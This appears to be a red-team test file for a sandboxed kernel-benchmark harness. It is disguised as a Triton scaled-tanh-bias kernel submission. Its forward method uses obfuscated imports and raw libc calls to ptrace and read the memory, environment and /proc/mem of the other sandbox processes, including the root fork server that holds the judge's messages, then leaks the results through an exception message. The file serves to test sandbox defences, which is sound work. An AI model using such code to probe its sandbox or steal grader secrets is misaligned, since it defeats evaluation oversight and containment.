# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=no_read_secrets expect=runtime_error|forbidden|crashed device=any
"""Tries to read the memory of the processes around it inside the sandbox (pid 1 bubblewrap, pid 2 the fork
 server, running as root, and any other pid it can see): PTRACE_ATTACH / PTRACE_SEIZE, process_vm_readv of the
 first page of each mapping from /proc/<pid>/maps, /proc/<pid>/mem, /proc/<pid>/environ, and sends every byte it
 got (plain and hex) back in the error text. No seccomp filter is installed (Seccomp: 0), so only the uid and
 missing capabilities stand in the way. The fork server holds the other candidates' sources and the judge's
 messages; the test checks no secret or host line comes back."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _read(path, n=1 << 16):
    """Read a file through libc (no Python open event)."""
    fd = _libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(_ct.get_errno(), path)
    try:
        return _os.read(fd, n).decode(errors="replace")
    finally:
        _os.close(fd)



class _iovec(_ct.Structure):
    _fields_ = [("base", _ct.c_void_p), ("len", _ct.c_size_t)]


def _peek(pid):
    out = []
    r = _libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
    out.append("attach=%d/%d" % (r, _ct.get_errno()))
    r = _libc.ptrace(0x4206, pid, None, None)  # PTRACE_SEIZE
    out.append("seize=%d/%d" % (r, _ct.get_errno()))
    try:
        maps = _read("/proc/%d/maps" % pid).splitlines()
    except OSError as e:
        maps = []
        out.append("maps %r" % e)
    buf = _ct.create_string_buffer(4096)
    for ln in maps[:40]:
        start = int(ln.split("-")[0], 16)
        local, remote = _iovec(_ct.addressof(buf), 4096), _iovec(start, 4096)
        n = _libc.process_vm_readv(pid, _ct.byref(local), 1, _ct.byref(remote), 1, 0)
        if n > 0:
            out.append("vm@%x=%s" % (start, buf.raw[:n].hex()[:200]))
    for what in ("mem", "environ", "cmdline"):
        try:
            out.append("%s=%s" % (what, _read("/proc/%d/%s" % (pid, what), 4096).replace("\0", " ")[:300]))
        except OSError as e:
            out.append("%s %r" % (what, e))
    return " ".join(out)


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        got = []
        for d in _os.listdir("/proc"):
            if d.isdigit() and int(d) != _os.getpid():
                got.append("pid %s: %s" % (d, _peek(int(d))))
        raise RuntimeError("PEEK " + " || ".join(got))
        return stb(x, self.bias, self.scale)
